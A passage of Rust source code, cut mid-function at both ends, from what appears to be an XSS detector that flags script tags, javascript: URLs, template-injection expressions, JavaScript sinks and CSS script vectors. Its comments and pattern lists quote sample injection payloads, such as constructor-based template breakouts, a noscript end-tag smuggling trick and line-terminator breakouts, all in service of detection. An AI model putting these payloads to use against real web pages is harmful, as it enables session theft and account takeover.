            None | Some(b'=' | b'"' | b'\'' | b'`' | b'(' | b'>' | b'[')
        );
        let after = &b[colon + 1..(colon + 80).min(b.len())];
        let lead = after
            .iter()
            .take_while(|c| c.is_ascii_whitespace())
            .count()
            .min(4);
        // Code after the scheme: `javascript:alert(1)`, `javascript: void(0)`,
        // `javascript://%0aalert(1)`; not "JavaScript: The Good Parts".
        let code = after[lead..]
            .iter()
            .take_while(|c| !c.is_ascii_whitespace())
            .any(|c| matches!(c, b'(' | b'`' | b'=' | b'%' | b'&' | b'\\' | b'/'));
        let data = b[s..colon].eq_ignore_ascii_case(b"data");
        // A do-nothing URL alone is the probe of an injectable link; in a
        // sentence it is being talked about.
        if !data && !hidden && inert_script_url(&after[lead..]) && prose_words(b, s, colon) >= 3 {
            continue;
        }
        if (ctx && (code || data)) || (code && lead == 0) || hidden {
            let end = colon
                + 1
                + after
                    .iter()
                    .take_while(|c| !c.is_ascii_whitespace())
                    .count();
            hit(hits, URI, base, s, end);
        }
    }
}

/// Words after a bare `<script>` that make it a tag talked about ("inline
/// <script> tags", "a <script> element in the head").
const TAG_TALK: &[&[u8]] = &[
    b"tag",
    b"tags",
    b"element",
    b"elements",
    b"block",
    b"blocks",
    b"in",
    b"inside",
    b"is",
    b"are",
    b"must",
    b"should",
    b"will",
    b"can",
    b"into",
    b"at",
    b"and",
    b"or",
    b"that",
    b"which",
    b"on",
    b"from",
    b"to",
    b"for",
    b"with",
    b"without",
    b"section",
    b"sections",
];

/// Whether the `<script>` at `lt` (name ending at `ne`, tag closing at
/// `end`) is named in prose rather than opened: no attributes, a blank after
/// a blank before, then a word of a sentence about markup, and no
/// `</script` later to close it.
fn script_tag_named(b: &[u8], lt: usize, ne: usize, end: usize, tag_end: usize) -> bool {
    if quoted_same_site_script(b, lt, ne, end, tag_end) || quoted_start_tag(b, lt, ne, end, tag_end)
    {
        return true;
    }
    // After a blank, or opening a value (`q=<script> tag meaning`).
    if ne != end || tag_end != end + 1 || (lt > 0 && !matches!(b[lt - 1], b' ' | b'=' | 0)) {
        return false;
    }
    // "requests containing <script>. Users who paste ...": the tag ends a
    // sentence of prose, and nothing closes it later.
    // Only punctuation that would be a syntax error as script (`;` and `!`
    // start statements), and words after it, not code.
    let prose_after = |from: usize| {
        let rest = &b[from.min(b.len())..b.len().min(from + 40)];
        rest.first().is_none_or(u8::is_ascii_alphabetic)
            && !rest
                .iter()
                .any(|c| matches!(c, b'(' | b'=' | b'`' | b'{' | b'['))
    };
    if lt > 0
        && b[lt - 1] == b' '
        && matches!(b.get(tag_end), Some(b'.' | b',' | b'?'))
        && (tag_end + 1 == b.len()
            || (matches!(b[tag_end + 1], b' ' | b'\n') && prose_after(tag_end + 2)))
    {
        let before = &b[lt.saturating_sub(40)..lt - 1];
        let word = before
            .rsplit(|c| !c.is_ascii_alphabetic())
            .next()
            .unwrap_or_default();
        let window = &b[tag_end..b.len().min(tag_end + 1024)];
        let closes = memchr::memmem::find_iter(window, b"</")
            .any(|p| lower_eq(window.get(p + 2..p + 8).unwrap_or(&[]), b"script"));
        if word.len() >= 2 && !closes {
            return true;
        }
    }
    if b.get(tag_end) != Some(&b' ') {
        return false;
    }
    let w = &b[tag_end + 1..];
    let n = w.iter().take_while(|c| c.is_ascii_alphabetic()).count();
    let word = &w[..n];
    // The sentence goes on in words: a blank and a letter after the word,
    // and none of a script's punctuation soon after (`<script> if(1)...`).
    let near = &w[..w.len().min(n + 24)];
    let goes_on = match w.get(n) {
        None => true,
        Some(b' ') => w.get(n + 1).is_some_and(u8::is_ascii_alphabetic),
        Some(b',' | b'.' | b'!' | b'?' | b':') => {
            w.get(n + 1).is_none_or(|c| c.is_ascii_whitespace())
        }
        _ => false,
    };
    let prose_on = goes_on
        && !near
            .iter()
            .any(|c| matches!(c, b'(' | b'=' | b'`' | b'{' | b'['));
    // Bounded: a run of such tags is read once each, not to the end.
    let window = &b[tag_end..b.len().min(tag_end + 1024)];
    let closes = memchr::memmem::find_iter(window, b"</")
        .any(|p| lower_eq(window.get(p + 2..p + 8).unwrap_or(&[]), b"script"));
    (TAG_TALK.iter().any(|t| lower_eq(word, t)) || CONNECTIVES.iter().any(|t| lower_eq(word, t)))
        && prose_on
        && !closes
}

/// Words that carry a sentence on past a tag it names ("strips <script>
/// but not event handlers"); a script body does not start with them.
const CONNECTIVES: &[&[u8]] = &[
    b"but",
    b"and",
    b"or",
    b"nor",
    b"from",
    b"with",
    b"without",
    b"when",
    b"if",
    b"unless",
    b"because",
    b"while",
    b"into",
    b"anymore",
    b"only",
    b"by",
    b"via",
    b"using",
    b"altogether",
    b"entirely",
    b"completely",
    b"meaning",
];

/// Whether an event attribute's value (from its first byte on) is a JSX
/// expression that hands over a function without calling it, as written
/// in React and Preact code: `onClick={() => select(id)}`,
/// `onChange={(e) => set(e)}`, `onSubmit={handleSubmit}`. Read as HTML
/// the value ends at the blank: `{()`, `{(e)`, `{handleSubmit}`, none of
/// which runs anything. A value that calls (`onerror={alert(1)}`,
/// `{(()=>f())()}`) is not one.
fn jsx_handler(raw: &[u8]) -> bool {
    let len = raw
        .iter()
        .take(128)
        .take_while(|c| !c.is_ascii_whitespace() && **c != b'>')
        .count();
    let (html, rest) = raw.split_at(len);
    let Some(inner) = html.strip_prefix(b"{") else {
        return false;
    };
    let name = |c: &u8| c.is_ascii_alphanumeric() || matches!(c, b'_' | b'$');
    let arrow_follows = rest.trim_ascii_start().starts_with(b"=>");
    // `{handleSubmit}`, `{this.props.onBlur}`.
    if let Some(path) = inner.strip_suffix(b"}") {
        return !path.is_empty() && path.iter().all(|c| name(c) || *c == b'.');
    }
    // `{e` or `{(` / `{(e)` / `{(a,`, then ` =>` after the blank.
    let params = inner.strip_prefix(b"(").unwrap_or(inner);
    let params = params.strip_suffix(b")").unwrap_or(params);
    arrow_follows && params.iter().all(|c| name(c) || *c == b',')
}

/// A URL path on the same site: relative (`../css/a.css`, `app.js`) or
/// rooted (`/assets/app.js`), with no scheme, no host (`//x`, `\\x`) and
/// nothing encoded that could spell one.
fn same_site_path(v: &[u8]) -> bool {
    // A JSX expression (`href={`/blog/${slug}`}`): the literal it holds.
    if let Some(inner) = v.strip_prefix(b"{").and_then(|x| x.strip_suffix(b"}")) {
        let inner = inner.trim_ascii();
        let literal = [b'`', b'"', b'\''].iter().find_map(|&q| {
            inner
                .strip_prefix(&[q])
                .and_then(|x| x.strip_suffix(&[q]))
                .filter(|x| !x.contains(&q))
        });
        if let Some(lit) = literal {
            return same_site_path(lit);
        }
    }
    !v.is_empty()
        && v.len() <= 256
        && !v.starts_with(b"//")
        && !v.starts_with(b"/\\")
        && v.iter().all(|&c| {
            c.is_ascii_graphic() && !matches!(c, b':' | b'\\' | b'<' | b'>' | b'"' | b'\'' | b'`')
        })
        && memchr::memmem::find(v, b"&#").is_none()
        && !v.windows(6).any(|w| lower_eq(w, b"&colon"))
}

/// Whether `v`, the value of the event attribute `an`, is a page's own
/// handler of a user action: a click, change, input, key or submit (not
/// `onload`, `onerror`, `onfocus` or `onmouseover`, which fire by
/// themselves or on a pass of the pointer) calling one function of the
/// page with plain arguments (`window.print()`, `toggleMenu(this)`,
/// `return validate(this.form)`, `showTab('billing')`), and no sink.
fn page_handler(an: &[u8], v: &[u8]) -> bool {
    const USER: &[&[u8]] = &[
        b"onclick",
        b"ondblclick",
        b"onchange",
        b"oninput",
        b"onsubmit",
        b"onreset",
        b"onkeyup",
        b"onkeydown",
        b"onkeypress",
    ];
    if !USER.iter().any(|u| lower_eq(an, u)) || v.len() > 120 {
        return false;
    }
    let v = v.trim_ascii();
    let v = v.strip_suffix(b";").unwrap_or(v).trim_ascii_end();
    let v = v.strip_prefix(b"return ").unwrap_or(v).trim_ascii_start();
    let name = v
        .iter()
        .take_while(|c| is_ident(**c) || **c == b'.')
        .count();
    if name == 0 || v[0].is_ascii_digit() || v[0] == b'.' {
        return false;
    }
    let Some(args) = v[name..]
        .strip_prefix(b"(")
        .and_then(|r| r.strip_suffix(b")"))
    else {
        return false;
    };
    let callee = &v[..name];
    let last = callee.rsplit(|&c| c == b'.').next().unwrap_or(callee);
    let head = callee.split(|&c| c == b'.').next().unwrap_or(callee);
    // `window.print()` is the page's print button; other sinks run code,
    // navigate, or write markup.
    let printing = lower_eq(last, b"print");
    if (!printing && (sinks().find(callee).is_some() || one_of(last, CALLED)))
        || one_of(
            head,
            &[b"location", b"document", b"top", b"parent", b"opener"],
        )
        || one_of(
            last,
            &[
                b"write", b"writeln", b"open", b"assign", b"replace", b"submit",
            ],
        )
    {
        return false;
    }
    // A library's entry points take markup or code (`$(name)`,
    // `jQuery.globalEval`, `angular.element`).
    if callee.first() == Some(&b'$')
        || one_of(head, &[b"jquery", b"angular"])
        || one_of(
            last,
            &[
                b"getscript",
                b"parsehtml",
                b"globaleval",
                b"execscript",
                b"html",
            ],
        )
    {
        return false;
    }
    // Plain arguments: `this`, `event`, a member of them, numbers and
    // quoted words; a bare global (`name`, `location`) may carry the
    // attacker's text.
    args.split(|&c| c == b',').all(|a| {
        let a = a.trim_ascii();
        let quoted = a.len() >= 2
            && matches!(a[0], b'\'' | b'"')
            && a.last() == Some(&a[0])
            && a[1..a.len() - 1].iter().all(|c| {
                c.is_ascii_alphanumeric() || matches!(c, b' ' | b'_' | b'-' | b'#' | b'.')
            });
        let member = |root: &[u8]| {
            a.strip_prefix(root).is_some_and(|r| {
                r.is_empty()
                    || (r[0] == b'.'
                        && r[1..]
                            .iter()
                            .all(|c| c.is_ascii_alphanumeric() || matches!(c, b'.' | b'_')))
            })
        };
        a.is_empty()
            || quoted
            || a.iter()
                .all(|c| c.is_ascii_digit() || *c == b'.' || *c == b'-')
            || member(b"this")
            || member(b"event")
    })
}

/// `<script src="/js/app.3f9a1c.js" defer></script>`: an empty element
/// (closed at once) loading a same-site file with nothing but a type, a
/// loading hint or an integrity/nonce attribute: the markup of a page's own
/// head. A query string could reach a JSONP endpoint
/// (`/api?callback=alert`), so the path has none.
fn same_site_include(b: &[u8], ne: usize, end: usize, tag_end: usize) -> bool {
    let closes_at_once = b
        .get(tag_end..tag_end + 9)
        .is_some_and(|w| lower_eq(w, b"</script>"));
    if !closes_at_once {
        return false;
    }
    script_src(
        b,
        ne,
        end,
        &[
            b"type",
            b"defer",
            b"async",
            b"nomodule",
            b"integrity",
            b"nonce",
            b"crossorigin",
        ],
    )
    .is_some_and(|v| same_site_path(v) && !v.contains(&b'?') && !v.contains(&b'%'))
}

/// The `src` of the script tag whose attributes run from `ne` to `end`,
/// when every other attribute is one of `allowed` (which load nothing
/// and run nothing).
fn script_src<'a>(b: &'a [u8], ne: usize, end: usize, allowed: &[&[u8]]) -> Option<&'a [u8]> {
    let mut src = None;
    let mut other = false;
    attributes(b, ne, end, |a| {
        let an = &b[a.name.0..a.name.1];
        if lower_eq(an, b"src") {
            src = Some(a.value.map_or(&b[0..0], |(s, e)| &b[s..e]));
        } else if !allowed.iter().any(|n| lower_eq(an, n)) {
            other = true;
        }
    });
    src.filter(|_| !other)
}

/// "Use `<script type="module" src="/assets/app.js"></script>` at the
/// end of the body": an empty script element loading a same-site file,
/// quoted as code in a sentence.
fn quoted_same_site_script(b: &[u8], lt: usize, ne: usize, end: usize, tag_end: usize) -> bool {
    if lt == 0 || b[lt - 1] != b'`' || tag_end != end + 1 {
        return false;
    }
    let closes_at_once = b
        .get(tag_end..tag_end + 10)
        .is_some_and(|w| lower_eq(w, b"</script>`"));
    if !closes_at_once {
        return false;
    }
    let src_ok = script_src(b, ne, end, &[b"type", b"defer", b"async"]).is_some_and(same_site_path);
    let words = |part: &[u8]| {
        part.split(|c| !c.is_ascii_alphabetic())
            .filter(|w| w.len() >= 2)
            .count()
    };
    // Words within 200 bytes either side: enough to tell a sentence, and a
    // body of many such tags is not re-counted whole for each one.
    let before = &b[(lt - 1).saturating_sub(200)..lt - 1];
    let after_start = (tag_end + 10).min(b.len());
    let after = &b[after_start..(after_start + 200).min(b.len())];
    src_ok && words(before) + words(after) >= 3
}

/// "The `<script type="module">` tag defers automatically": a start tag
/// alone in a code span, with only attributes that load nothing from
/// elsewhere and run nothing, inside a sentence that goes on after it, and
/// no `</script` later to close an element.
fn quoted_start_tag(b: &[u8], lt: usize, ne: usize, end: usize, tag_end: usize) -> bool {
    if lt == 0 || b[lt - 1] != b'`' || tag_end != end + 1 || b.get(tag_end) != Some(&b'`') {
        return false;
    }
    if b.get(tag_end + 1) != Some(&b' ') || !b.get(tag_end + 2).is_some_and(u8::is_ascii_lowercase)
    {
        return false;
    }
    let closes = memchr::memmem::find_iter(&b[tag_end..], b"</").any(|p| {
        lower_eq(
            b.get(tag_end + p + 2..tag_end + p + 8).unwrap_or(&[]),
            b"script",
        )
    });
    if closes {
        return false;
    }
    let mut inert = true;
    attributes(b, ne, end, |a| {
        let an = &b[a.name.0..a.name.1];
        let v = a.value.map_or(&b[0..0], |(s, e)| &b[s..e]);
        let ok = if lower_eq(an, b"src") {
            same_site_path(v)
        } else {
            [
                &b"type"[..],
                b"defer",
                b"async",
                b"nomodule",
                b"crossorigin",
                b"integrity",
                b"referrerpolicy",
                b"charset",
            ]
            .iter()
            .any(|n| lower_eq(an, n))
                && !v.iter().any(|c| matches!(c, b'<' | b'>' | b'(' | b'`'))
        };
        inert &= ok;
    });
    let words = |part: &[u8]| {
        part.split(|c| !c.is_ascii_alphabetic())
            .filter(|w| w.len() >= 2)
            .count()
    };
    let before = &b[(lt - 1).saturating_sub(200)..lt - 1];
    let after_start = (tag_end + 1).min(b.len());
    let after = &b[after_start..(after_start + 200).min(b.len())];
    inert && words(before) + words(after) >= 4
}

/// `<noscript><img src="/pixel?ev=1"></noscript>`: a raw-text element
/// whose end tag comes soon and outside any quoted attribute value. The
/// smuggling trick puts the end tag inside a value (`<noscript><p
/// title="</noscript><img src=x onerror=...>">`), where a sanitiser that
/// reads the content as markup sees an attribute and the browser an end
/// tag. Looked for within 256 bytes, so a run of such tags stays linear.
fn closes_outside_quotes(b: &[u8], name: &[u8], tag_end: usize) -> bool {
    let win = &b[tag_end.min(b.len())..(tag_end + 256).min(b.len())];
    // The quote that opened the value we are in, if any.
    let mut open = 0u8;
    for (i, &c) in win.iter().enumerate() {
        match c {
            b'"' | b'\'' if open == 0 => open = c,
            b'"' | b'\'' if open == c => open = 0,
            b'<' if win.get(i + 1) == Some(&b'/')
                && win
                    .get(i + 2..i + 2 + name.len())
                    .is_some_and(|w| lower_eq(w, name)) =>
            {
                return open == 0;
            }
            _ => {}
        }
    }
    false
}

/// `<noscript>Please enable JavaScript.</noscript>`: a raw-text element
/// with no attributes whose content is plain text up to its own end tag
/// has nothing for a parser to re-read as markup.
fn plain_text_element(b: &[u8], ne: usize, tag_end: usize) -> bool {
    if tag_end != ne + 1 || b.get(ne) != Some(&b'>') {
        return false;
    }
    let name = &b[..ne];
    let name = &name[name.iter().rposition(|c| *c == b'<').map_or(0, |p| p + 1)..];
    let Some(o) = memchr::memchr(b'<', &b[tag_end..]) else {
        return false;
    };
    let body = &b[tag_end..tag_end + o];
    let close = &b[tag_end + o..];
    !body.iter().any(|c| matches!(c, b'"' | b'\'' | b'`' | b'&'))
        && close.starts_with(b"</")
        && close.len() > name.len() + 2
        && lower_eq(&close[2..2 + name.len()], name)
        && close[2 + name.len()] == b'>'
}

/// Alphabetic words of two letters or more around the URL from `s`
/// (scheme) past `colon`, up to the next blank: the sentence it sits in.
fn prose_words(b: &[u8], s: usize, colon: usize) -> usize {
    let e = colon
        + b[colon..]
            .iter()
            .take_while(|c| !c.is_ascii_whitespace())
            .count();
    [&b[..s], &b[e..]]
        .iter()
        .map(|part| {
            part.split(|c| !c.is_ascii_alphabetic())
                .filter(|w| w.len() >= 2)
                .count()
        })
        .sum()
}

/// Whether the code after `javascript:` does nothing: `void(0)`, `void 0`,
/// an empty statement. "Is javascript:void(0) bad practice?" talks about it.
fn inert_script_url(after: &[u8]) -> bool {
    let body: Vec<u8> = after
        .iter()
        .take_while(|c| !matches!(c, b'"' | b'\'' | b'`' | b'>' | b'<' | b'\n'))
        .filter(|c| !c.is_ascii_whitespace())
        .map(u8::to_ascii_lowercase)
        .collect();
    // Sentence text may follow after a blank: only the first word counts.
    let first: Vec<u8> = after
        .iter()
        .take_while(|c| !c.is_ascii_whitespace() && !matches!(c, b'"' | b'\'' | b'`' | b'>'))
        .map(u8::to_ascii_lowercase)
        .collect();
    let inert = |t: &[u8]| {
        let t = t.strip_suffix(b";").unwrap_or(t);
        matches!(
            t,
            b"void(0)" | b"void0" | b"void(null)" | b"void(0);" | b"" | b";"
        )
    };
    inert(&first) || (first == b"void" && body.starts_with(b"void0") && inert(&body[..5]))
}

/// `{{constructor.constructor('alert(1)')()}}` and friends.
fn template(b: &[u8], base: usize, hits: &mut Vec<Hit>) {
    let mut k = 0;
    // One searcher for the whole walk: building one per step would cost
    // more than the step on a run of `{{`.
    let opens = memchr::memmem::Finder::new(b"{{");
    let closes = memchr::memmem::Finder::new(b"}}");
    while let Some(off) = opens.find(&b[k..]) {
        let open = k + off;
        let lim = (open + 512).min(b.len());
        let found = closes.find(&b[open + 2..lim]);
        let close = found.map_or(lim, |o| open + 2 + o + 2);
        let inner = &b[open..close];
        let bad = [
            &b"constructor"[..],
            b"$eval",
            b"$on",
            b"$emit",
            b"alert(",
            b"prompt(",
            b"confirm(",
            b"__proto__",
            b"fromcharcode",
            b"$event",
            b"document.",
            b"window.",
            b"tostring()",
            b"charat",
        ];
        let lower = inner.to_ascii_lowercase();
        if bad
            .iter()
            .any(|p| memchr::memmem::find(&lower, p).is_some())
        {
            hit(hits, TEMPLATE, base, open, close);
        }
        // Unclosed within the bound: the `{{` after it up to the bound read
        // the same bytes again, so a run of `{{` would cost 512 bytes each.
        k = if found.is_some() {
            close.max(open + 2)
        } else {
            lim
        };
    }
}

fn sinks() -> &'static AhoCorasick {
    static AC: OnceLock<AhoCorasick> = OnceLock::new();
    AC.get_or_init(|| {
        AhoCorasickBuilder::new()
            .match_kind(MatchKind::LeftmostFirst)
            .ascii_case_insensitive(true)
            // A handful of short patterns: the full DFA is small, and it walks
            // a value faster than the NFA when no prefilter applies.
            .kind(Some(AhoCorasickKind::DFA))
            .build(SINKS.iter().map(|(p, _)| p))
            .expect("static patterns build")
    })
}

/// JavaScript sinks: the pattern, and whether it must be called.
const SINKS: &[(&str, bool)] = &[
    ("alert", true),
    ("prompt", true),
    ("confirm", true),
    ("eval", true),
    ("settimeout", true),
    ("setinterval", true),
    ("function", true),
    ("atob", true),
    ("fetch", true),
    ("import", true),
    ("print", true),
    ("btoa", true),
    ("globaleval", true),
    // The Function constructor reached from any object:
    // `[].constructor.constructor('code')()`.
    ("constructor.constructor", true),
    ("document.cookie", false),
    ("document.write", false),
    ("document.domain", false),
    ("document.location", false),
    ("window.location", false),
    ("location.href", false),
    ("location=", false),
    (".innerhtml", false),
    (".outerhtml", false),
    ("fromcharcode", false),
    ("window[", false),
    ("self[", false),
    ("top[", false),
    ("globalthis", false),
];

fn js_injection(b: &[u8], base: usize, hits: &mut Vec<Hit>) {
    for m in sinks().find_iter(b) {
        let (s, e) = (m.start(), m.end());
        if s > 0
            && (b[s - 1].is_ascii_alphanumeric() || b[s - 1] == b'_')
            && SINKS[m.pattern().as_usize()].1
        {
            continue;
        }
        let needs_call = SINKS[m.pattern().as_usize()].1;
        // `self.alert(1)`, `top.eval(...)`: a sink reached through a global
        // object is still the sink; the object starts the expression.
        let s = if needs_call && s > 1 && b[s - 1] == b'.' {
            let (obj, os) = ident_before(b, s - 1);
            if os + obj.len() == s - 1 && one_of(obj, OBJECTS) {
                os
            } else {
                s
            }
        } else {
            s
        };
        let mut j = e;
        while j < b.len() && b[j].is_ascii_whitespace() && j - e < 8 {
            j += 1;
        }
        let called = j < b.len() && matches!(b[j], b'(' | b'`');
        let templated = s >= 2 && &b[s - 2..s] == b"${";
        if needs_call && !called && !templated {
            if let Some(close) = sink_argument(b, s, e) {
                hit(hits, JS, base, s, close);
            }
            continue;
        }
        let close = if called {
            let lim = (j + 100).min(b.len());
            memchr::memchr2(b')', b'`', &b[j + 1..lim]).map_or(lim, |o| j + 1 + o + 1)
        } else {
            e
        };
        // Breaking out of a JS string: quote, then operators, then the sink.
        let mut p = s;
        // The sink may be a member of an expression: `');[].constructor...`.
        if s > 0 && b[s - 1] == b'.' {
            while p > 0
                && s - p < 64
                && (is_ident(b[p - 1])
                    || matches!(b[p - 1], b'.' | b'[' | b']' | b'{' | b'}' | b'(' | b')'))
            {
                p -= 1;
            }
        }
        while p > 0
            && (b[p - 1].is_ascii_whitespace()
                || matches!(b[p - 1], b'(' | b'[' | b'{' | b'!' | b'~'))
        {
            p -= 1;
        }
        let mut ops = 0;
        while p > 0
            && matches!(
                b[p - 1],
                b';' | b'+'
                    | b'-'
                    | b'*'
                    | b'|'
                    | b'&'
                    | b','
                    | b'}'
                    | b')'
                    | b'/'
                    | b'%'
                    | b'^'
                    | b'<'
                    | b'>'
                    | b'='
                    | b'?'
                    | b':'
            )
            && ops < 6
        {
            p -= 1;
            ops += 1;
            while p > 0 && b[p - 1].is_ascii_whitespace() {
                p -= 1;
            }
        }
        // "a dry run with `-print` first": a markdown code span holding an
        // option, closed by the backtick after the name and followed by
        // the sentence, not a template literal broken out of and called.
        let code_span = p > 0
            && b[p - 1] == b'`'
            && j == e
            && b.get(j) == Some(&b'`')
            && b.get(j + 1) == Some(&b' ')
            && b.get(j + 2).is_some_and(u8::is_ascii_lowercase)
            && !b[p..s].contains(&b'`');
        let after_quote = ops > 0 && p > 0 && matches!(b[p - 1], b'"' | b'\'' | b'`') && !code_span;
        // Or out of a number: `10-alert(1)-0` where a value lands in
        // arithmetic. The number starts the value (or follows `name=`).
        let after_number = ops > 0 && p > 0 && b[p - 1].is_ascii_digit() && {
            let n = b[..p]
                .iter()
                .rev()
                .take_while(|c| c.is_ascii_digit() || **c == b'.')
                .count();
            let lead = &b[..p - n];
            let name = lead.strip_suffix(b"=").unwrap_or(lead);
            let name = name.rsplit(|&c| c == b'&').next().unwrap_or(name);
            (lead.is_empty() || (lead.ends_with(b"=") && form_name_len(name) == name.len()))
                && b[close.min(b.len())..]
                    .iter()
                    .find(|c| !c.is_ascii_whitespace())
                    .is_none_or(|c| matches!(c, b'-' | b'+' | b'*' | b'/' | b';' | b'%'))
        };
        // Or the whole value is the sink: `alert(1)`, `eval(atob('...'))`,
        // `document.cookie`; not "alert(1) is the classic proof of concept".
        let rest = &b[close.min(b.len())..];
        let next_at = rest.iter().position(|c| !c.is_ascii_whitespace());
        // An assignment to a sink (`window.location=...`), not a comparison.
        let assigned = !needs_call
            && next_at.is_some_and(|q| rest[q] == b'=' && rest.get(q + 1) != Some(&b'='));
        let rest_ok = next_at.is_none()
            || assigned
            || matches!(
                rest[next_at.unwrap_or(0)],
                b';' | b'/' | b'<' | b')' | b'\'' | b'"' | b'-' | b'+' | b'.' | b'[' | b'('
            );
        // What precedes the sink: nothing, or `new` (`new Function(...)`).
        // A line terminator ends a JavaScript comment or statement, the
        // Unicode ones (U+2028, U+2029) included: `q=\u2028alert(1)//`.
        let mut lead = &b[..s];
        while let Some(l) = lead
            .strip_suffix("\u{2028}".as_bytes())
            .or_else(|| lead.strip_suffix("\u{2029}".as_bytes()))
            .or_else(|| lead.strip_suffix(b"\n"))
            .or_else(|| lead.strip_suffix(b"\r"))
        {
            lead = l;
        }
        let lead_t = lead.trim_ascii();
        // A form body the engine could not split (`foo=document.x(...)`):
        // a parameter name and `=` start the value.
        let form_lead = lead.last() == Some(&b'=') && lead.len() <= 64 && {
            let name = &lead[..lead.len() - 1];
            let name = name.rsplit(|&c| c == b'&').next().unwrap_or(name);
            !name.is_empty() && form_name_len(name) == name.len()
        };
        let lead_ok = lead
            .iter()
            .all(|c| c.is_ascii_whitespace() || matches!(c, b'(' | b'['))
            || (lead_t.len() == 3 && lower_eq(lead_t, b"new") && lead.len() > 3)
            || form_lead;
        // `window.location.href = '/checkout?step=2';`: navigation to a
        // fixed path of the same site reads nothing and runs nothing.
        let same_site = !needs_call && {
            // `window.location.href = ...`: the member written after the sink.
            let mut k = e;
            if b.get(k) == Some(&b'.') {
                k += 1 + b[k + 1..]
                    .iter()
                    .take_while(|c| c.is_ascii_alphabetic())
                    .count();
            }
            let q = k + b[k..]
                .iter()
                .take_while(|c| c.is_ascii_whitespace())
                .count();
            let rhs = if b[e - 1] == b'=' {
                Some(e)
            } else if b.get(q) == Some(&b'=') && b.get(q + 1) != Some(&b'=') {
                Some(q + 1)
            } else {
                None
            };
            rhs.is_some_and(|r| same_site_literal(&b[r..]))
        };
        if same_site {
            continue;
        }
        let whole = lead_ok && (called || !needs_call) && rest_ok;
        // `${alert}` in a tagged template: [].sort.call`${alert}1337`.
        let templated = s >= 2 && &b[s - 2..s] == b"${";
        if after_quote || after_number || whole || templated {
            hit(hits, JS, base, if after_quote { p - 1 } else { s }, close);
        }
    }
}

/// Whether `<Script>` at `lt..tag_end` is a type argument in code: Rust's
/// turbofish (`CodePointMapData::<Script>::new()`) or a generic glued to
/// its type and followed by a path or call (`Vec<Script>::new()`). Written
/// as a type name is (`Script`), with nothing inside the brackets.
fn type_argument(b: &[u8], lt: usize, tag_end: usize) -> bool {
    tag_end == lt + 8
        && &b[lt + 1..lt + 7] == b"Script"
        && lt >= 2
        && (&b[lt - 2..lt] == b"::" || b[lt - 1].is_ascii_alphanumeric())
        && matches!(b.get(tag_end..tag_end + 2), Some(b"::") | Some(b"()"))
}

/// Whether a `<link>`'s `rel` value names only relations that load nothing
/// into the page (`icon`, `shortcut icon`, `canonical`, `author`).
fn inert_link_rel(v: &[u8]) -> bool {
    const INERT: &[&[u8]] = &[
        b"icon",
        b"shortcut",
        b"apple-touch-icon",
        b"apple-touch-icon-precomposed",
        b"mask-icon",
        b"canonical",
        b"author",
        b"license",
        b"help",
        b"me",
        b"bookmark",
        b"next",
        b"prev",
        b"start",
        b"contents",
        b"index",
        b"up",
    ];
    let mut any = false;
    for t in v.split(u8::is_ascii_whitespace).filter(|t| !t.is_empty()) {
        if !INERT.iter().any(|i| lower_eq(t, i)) {
            return false;
        }
        any = true;
    }
    any
}

/// `Reflect.apply(alert, null, [1])`, `[1].map(eval)`, `setTimeout(alert)`:
/// a sink (`alert`, `eval`, `confirm`) at `s..e` passed uncalled as an
/// argument to a method or timer, which calls it. Returns the end of the
/// argument list.
fn sink_argument(b: &[u8], s: usize, e: usize) -> Option<usize> {
    if !one_of(&b[s..e], PASSED) {
        return None;
    }
    let mut p = s;
    while p > 0 && s - p < 8 && b[p - 1].is_ascii_whitespace() {
        p -= 1;
    }
    let mut q = e;
    while q < b.len() && q - e < 8 && b[q].is_ascii_whitespace() {
        q += 1;
    }
    if p == 0 || !matches!(b[p - 1], b'(' | b',') || !matches!(b.get(q), Some(b',' | b')')) {
        return None;
    }
    // The `(` of the call: the one just before, or after a few arguments.
    let lim = p.saturating_sub(96);
    let open = (lim..p).rev().find(|&k| b[k] == b'(')?;
    if b[open + 1..p].contains(&b')') {
        return None;
    }
    let (callee, cs) = ident_before(b, open);
    if cs + callee.len() != open {
        return None;
    }
    // `* read.c (eval): Fix ...`: a GNU ChangeLog names the function it
    // changed in parentheses after the source file, then a colon (the
    // blank before the parenthesis may have been compacted away).
    const SOURCE_EXTS: &[&[u8]] = &[
        b"c", b"h", b"cc", b"cpp", b"y", b"l", b"el", b"texi", b"in", b"am", b"ac", b"m4", b"pl",
        b"py", b"sh",
    ];
    if SOURCE_EXTS.iter().any(|x| lower_eq(callee, x))
        && b.get(q) == Some(&b')')
        && b[q + 1..].iter().find(|c| !c.is_ascii_whitespace()) == Some(&b':')
    {
        return None;
    }
    let method = cs > 0 && b[cs - 1] == b'.';
    let timer = one_of(callee, &[b"settimeout", b"setinterval"]);
    if !(method || timer) || callee.is_empty() {
        return None;
    }
    let close = memchr::memchr(b')', &b[q..(q + 128).min(b.len())]).map_or(q, |o| q + o + 1);
    Some(close)
}

/// Whether `v` (after an `=`) is one string literal holding a path of the
/// same site (`'/a?b=1'`, `"#top"`), then the end of the statement.
fn same_site_literal(v: &[u8]) -> bool {
    let v = v.trim_ascii_start();
    let Some(&q) = v.first() else {
        return false;
    };
    if !matches!(q, b'\'' | b'"') {
        return false;
    }
    let Some(len) = memchr::memchr(q, &v[1..]) else {
        return false;
    };
    let lit = &v[1..1 + len];
    let path = match lit.first() {
        Some(b'/') => !matches!(lit.get(1), Some(b'/' | b'\\')),
        Some(b'?' | b'#') => true,
        _ => false,
    };
    let clean = lit
        .iter()
        .all(|c| c.is_ascii_alphanumeric() || b"/?#=&-_.%~".contains(c));
    let tail = v[2 + len..].trim_ascii();
    path && clean && (tail.is_empty() || tail == b";")
}

/// CSS that runs script outside a tag: `background:url( javascript:...)`,
/// `-moz-binding:url(...)`, `x:expression(...)`.
fn bare_css(b: &[u8], base: usize, hits: &mut Vec<Hit>) {
    moz_binding(b, base, hits);
    // Every shape below is `url(` or `expression(`.
    if !memchr::memchr_iter(b'(', b).any(|p| one_of(ident_before(b, p).0, &[b"url", b"expression"]))
    {
        return;
    }
    let lower = b.to_ascii_lowercase();
    for pat in [&b"behavior:url("[..], b"behaviour:url("] {
        if let Some(p) = memchr::memmem::find(&lower, pat) {
            hit(hits, CSS, base, p, p + pat.len());
        }
    }
    let skip = |j: &mut usize| {
        while *j < lower.len()
            && (lower[*j].is_ascii_whitespace() || matches!(lower[*j], b'"' | b'\''))
        {
            *j += 1;
        }
    };
    for u in memchr::memmem::find_iter(&lower, b"url") {
        let mut j = u + 3;
        skip(&mut j);
        if lower.get(j) != Some(&b'(') {
            continue;
        }
        j += 1;
        skip(&mut j);
